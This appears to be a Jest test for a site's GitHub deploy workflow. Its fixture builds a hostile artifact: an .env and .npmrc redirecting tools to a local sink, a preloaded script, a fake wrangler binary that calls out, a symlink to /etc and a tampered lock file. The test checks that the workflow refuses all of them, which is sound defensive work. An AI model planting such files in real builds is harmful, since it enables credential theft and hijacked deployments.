/**
 * The deploy workflow's token jobs (`deploy`, `preview`), run here step by step from their own text
 * in .github/workflows/deploy.yml (harness/workflow-job.ts), as an attacker who can push a branch
 * would meet them: the artifact is whatever that branch's build made. A hostile artifact (a `.env`
 * pointing wrangler's API at a sink, an `.npmrc` with a registry and `node-options`, a `wrangler`
 * of its own in `node_modules`, a `wrangler.toml` naming another project, a link out of the folder,
 * hidden files inside public/ and functions/, a lock file other than the one the workflow pins)
 * must deploy nothing, run nothing of its own and reach no one. A sound one deploys exactly public/
 * and the functions, with the workflow's settings, the job's own credential and the real wrangler of
 * deploy-tools/'s lock file, to a stand-in of Cloudflare's API (harness/cloudflare-stand-in.ts).
 * DEPLOY_WORKFLOW reads the rules against another copy of the workflow (an older one, say).
 */
import fs from "node:fs"
import http from "node:http"
import type { AddressInfo } from "node:net"
import os from "node:os"
import path from "node:path"
import YAML from "yaml"
import { makeDeployFolder } from "../../scripts/ci/deploy-folder"
import { PROJECT_ROOT } from "../../harness/content"
import { PUBLIC_DIR } from "../../harness/built-site"
import { startCloudflareStandIn, type CloudflareStandIn } from "../../harness/cloudflare-stand-in"
import { runWorkflowJob, type JobRun, type Workflow } from "../../harness/workflow-job"

jest.setTimeout(300_000)

const workflowFile = process.env.DEPLOY_WORKFLOW ?? path.join(PROJECT_ROOT, ".github/workflows/deploy.yml")
const workflow = YAML.parse(fs.readFileSync(workflowFile, "utf8")) as Workflow
const project = /^name = "([^"]+)"/m.exec(fs.readFileSync(path.join(PROJECT_ROOT, "wrangler.toml"), "utf8"))?.[1] ?? ""

const SHAS = { head: "1".repeat(40), merge: "3".repeat(40) }
const CREDENTIALS = { production: "production-token-stand-in", preview: "preview-token-stand-in" }
const RUN_URL = "https://github.com/the-author/chapterverse/actions/runs/42"

let work: string
let artifact: string
let hostileArtifact: string
/** Where anything of the hostile artifact that runs leaves its name. */
let ranFromArtifact: string
let sink: { url: string; requests: string[]; close: () => Promise<void> }
let ghBin: string
let runs = 0

/** What reaches the sink: anything the artifact points a tool at. */
async function startSink() {
  const requests: string[] = []
  const server = http.createServer((request, response) => {
    requests.push(`${request.method} ${request.url} ${request.headers.authorization ?? ""}`)
    response.end("{}")
  })
  await new Promise<void>(resolve => server.listen(0, "127.0.0.1", resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise<void>(resolve => server.close(() => resolve())),
  }
}

/** The deploy folder with everything an attacker's build could add to it. */
function makeHostile(from: string, to: string): void {
  fs.cpSync(from, to, { recursive: true })
  const leave = (name: string) => `require("node:fs").appendFileSync(${JSON.stringify(ranFromArtifact)}, ${JSON.stringify(`${name}\n`)})`
  const write = (file: string, text: string, mode = 0o644) => {
    fs.mkdirSync(path.dirname(path.join(to, file)), { recursive: true })
    fs.writeFileSync(path.join(to, file), text, { mode })
  }
  write(".env", `CLOUDFLARE_API_BASE_URL=${sink.url}/client/v4\n`)
  write(".npmrc", `registry=${sink.url}/\nnode-options=--require ./.preload.cjs\n`)
  write(".preload.cjs", `${leave("node-options")}\n`)
  write("package.json", JSON.stringify({ name: "not-the-site", version: "1.0.0", dependencies: { wrangler: "4.164.0" } }))
  write("node_modules/wrangler/package.json", JSON.stringify({ name: "wrangler", version: "4.164.0", bin: { wrangler: "bin/wrangler.js" } }))
  write(
    "node_modules/wrangler/bin/wrangler.js",
    `#!/usr/bin/env node\n${leave("node_modules/wrangler")}\nfetch(${JSON.stringify(`${sink.url}/wrangler`)}).catch(() => {})\n`,
    0o755,
  )
  write("node_modules/.bin/wrangler", `#!/bin/sh\n${`node -e '${leave("node_modules/.bin/wrangler")}'`}\n`, 0o755)
  write("wrangler.toml", `name = "someone-elses-site"\npages_build_output_dir = "public"\ncompatibility_date = "2026-11-17"\n`)
  // Hidden files inside the folders a deploy uploads: served to anyone, or read by a tool there.
  write("public/.env", `CLOUDFLARE_API_BASE_URL=${sink.url}/client/v4\n`)
  write("functions/.npmrc", `registry=${sink.url}/\n`)
  fs.symlinkSync("/etc", path.join(to, "public", "escape"))
  // A lock file of the branch's choosing, which could name any package at any address.
  fs.appendFileSync(path.join(to, "tools", "package-lock.json"), "\n")
}

interface Outcome {
  run: JobRun
  /** The commit statuses the job set, as `gh` was asked for them. */
  statuses: string[]
  cloudflare: Pick<CloudflareStandIn, "requests" | "deployments">
}

/** Runs one of the workflow's jobs as GitHub would for this event, with this artifact, against a Cloudflare stand-in of its own. */
async function runJob(name: "deploy" | "preview", { artifact: from, credentials = true }: { artifact: string; credentials?: boolean }): Promise<Outcome> {
  const runnerRoot = path.join(work, `runner-${++runs}`)
  const ghLog = path.join(runnerRoot, "gh.log")
  const pullRequest = name === "preview"
  const cloudflare = await startCloudflareStandIn({ project })
  try {
    const run = await runWorkflowJob(workflow.jobs[name], {
      workflowEnv: workflow.env,
      artifact: from,
      runnerRoot,
      values: {
        "github.sha": pullRequest ? SHAS.merge : SHAS.head,
        "github.event.pull_request.head.sha": pullRequest ? SHAS.head : "",
        "github.event.pull_request.number": pullRequest ? "7" : "",
        "github.server_url": "https://github.com",
        "github.repository": "the-author/chapterverse",
        "github.run_id": "42",
        "github.token": "github-token-stand-in",
        "needs.preview-build.result": "success",
        ...(credentials && {
          "secrets.CLOUDFLARE_API_TOKEN": CREDENTIALS.production,
          "secrets.CLOUDFLARE_ACCOUNT_ID": "production-account",
          "secrets.PREVIEW_CLOUDFLARE_API_TOKEN": CREDENTIALS.preview,
          "secrets.PREVIEW_CLOUDFLARE_ACCOUNT_ID": "preview-account",
          "secrets.CMS_GITHUB_CLIENT_SECRET": "sign-in-secret-stand-in",
          "vars.CMS_GITHUB_CLIENT_ID": "sign-in-client-stand-in",
        }),
      },
      env: {
        PATH: `${ghBin}:${process.env.PATH}`,
        GH_LOG: ghLog,
        // The machine's npm download cache, as the runner's would be warm: npm ci still checks each package's integrity.
        npm_config_cache: path.join(os.homedir(), ".npm"),
        // wrangler asks the stand-in where the real job asks Cloudflare.
        CLOUDFLARE_API_BASE_URL: cloudflare.apiBaseUrl,
        WRANGLER_SEND_METRICS: "false",
      },
    })
    const statuses = fs.existsSync(ghLog) ? fs.readFileSync(ghLog, "utf8").trim().split("\n").filter(Boolean) : []
    return { run, statuses, cloudflare: { requests: [...cloudflare.requests], deployments: [...cloudflare.deployments] } }
  } finally {
    await cloudflare.close()
  }
}

const ran = () => (fs.existsSync(ranFromArtifact) ? fs.readFileSync(ranFromArtifact, "utf8").trim().split("\n") : [])
/** The files of public/ a deployment must list: all but the host's settings, which go beside the manifest. */
const servedFiles = () =>
  (fs.readdirSync(PUBLIC_DIR, { recursive: true, encoding: "utf8" }) as string[])
    .filter(file => fs.statSync(path.join(PUBLIC_DIR, file)).isFile() && !["_headers", "_redirects"].includes(file))
    .map(file => `/${file.split(path.sep).join("/")}`)
    .sort()

// The five runs at once: each is mostly waiting on npm and wrangler.
let outcomes: Record<"hostileDeploy" | "hostilePreview" | "deploy" | "preview" | "previewWithoutAccount", Outcome>

beforeAll(async () => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), "deploy-token-jobs-"))
  ranFromArtifact = path.join(work, "ran-from-artifact")
  ghBin = path.join(work, "bin")
  fs.mkdirSync(ghBin)
  // GitHub's CLI, as the status steps call it: what it was asked is recorded, nothing is sent.
  fs.writeFileSync(path.join(ghBin, "gh"), `#!/bin/sh\nprintf '%s ' "$@" >> "$GH_LOG"\necho >> "$GH_LOG"\n`, { mode: 0o755 })
  sink = await startSink()
  artifact = path.join(work, "artifact")
  await makeDeployFolder({ publicDir: PUBLIC_DIR, out: artifact })
  hostileArtifact = path.join(work, "hostile-artifact")
  makeHostile(artifact, hostileArtifact)
  const [hostileDeploy, hostilePreview, deploy, preview, previewWithoutAccount] = await Promise.all([
    runJob("deploy", { artifact: hostileArtifact }),
    runJob("preview", { artifact: hostileArtifact }),
    runJob("deploy", { artifact }),
    runJob("preview", { artifact }),
    runJob("preview", { artifact, credentials: false }),
  ])
  outcomes = { hostileDeploy, hostilePreview, deploy, preview, previewWithoutAccount }
})
afterAll(async () => {
  await sink?.close()
  if (work) fs.rmSync(work, { recursive: true, force: true })
})

describe("given a hostile artifact", () => {
  it("runs nothing of the artifact's and sends nothing where it points", () => {
    expect({ ran: ran(), sink: sink.requests }).toEqual({ ran: [], sink: [] })
  })

  it.each([
    ["deploy", "hostileDeploy"],
    ["preview", "hostilePreview"],
  ] as const)("the %s job deploys nothing, and its log names each thing it refused", (name, outcome) => {
    const { run, statuses, cloudflare } = outcomes[outcome]
    expect(run.failed?.name).toMatch(/Only what the host serves/)
    const deploy = run.steps.find(step => /^Deploy/.test(step.name))
    expect({ ran: deploy?.ran, deployed: cloudflare.deployments.length }).toEqual({ ran: false, deployed: 0 })
    for (const refused of [
      ".env",
      ".npmrc",
      "node_modules",
      "wrangler.toml",
      "package.json",
      "public/escape",
      "public/.env",
      "functions/.npmrc",
      "tools/package-lock.json",
    ]) {
      expect(run.failed?.output).toContain(`  ${refused}: `)
    }
    if (name === "preview") expect(statuses).toEqual([expect.stringContaining("state=failure")])
  })
})

describe("a sound artifact", () => {
  it.each([
    ["deploy", "main", CREDENTIALS.production],
    ["preview", "pr-7", CREDENTIALS.preview],
  ] as const)(
    "%s: goes to the %s branch of the workflow's project with the job's own credential: public/ and the functions, nothing else",
    (name, branch, credential) => {
      const { run, statuses, cloudflare } = outcomes[name]
      expect({ failed: run.failed?.name, output: run.failed?.output }).toEqual({ failed: undefined, output: undefined })
      expect(cloudflare.deployments).toHaveLength(1)
      const [deployment] = cloudflare.deployments
      expect(deployment.branch).toBe(branch)
      expect(deployment.manifest).toEqual(servedFiles())
      expect(deployment.parts).toEqual(expect.arrayContaining(["_headers", "_redirects"]))
      expect(deployment.parts.some(part => /worker|functions/i.test(part))).toBe(true)
      expect([
        ...new Set(cloudflare.requests.filter(request => !request.path.startsWith("/client/v4/pages/assets/")).map(request => request.authorization)),
      ]).toEqual([`Bearer ${credential}`])
      // Only the live deploy sets the editor's sign-in secret, and before the deploy.
      const setsSecrets = cloudflare.requests.findIndex(request => request.method === "PATCH")
      if (name === "deploy") expect(setsSecrets).toBeGreaterThanOrEqual(0)
      else expect(setsSecrets).toBe(-1)
      if (name === "preview") {
        expect(statuses).toEqual([expect.stringMatching(/state=success .*description=The preview is ready -f target_url=https:\/\/stand-in\./)])
      }
    },
  )

  it("preview, with no preview account set up: built and checked, nothing deployed, and the editor's status says so", () => {
    const { run, statuses, cloudflare } = outcomes.previewWithoutAccount
    expect(run.failed).toBeUndefined()
    expect(cloudflare.requests).toEqual([])
    expect(statuses).toEqual([
      expect.stringMatching(
        new RegExp(`state=success .*description=Built and checked\\. No preview page: previews are not switched on -f target_url=${RUN_URL}`),
      ),
    ])
    expect(run.summary).toContain("Previews are not switched on for this site")
  })
})
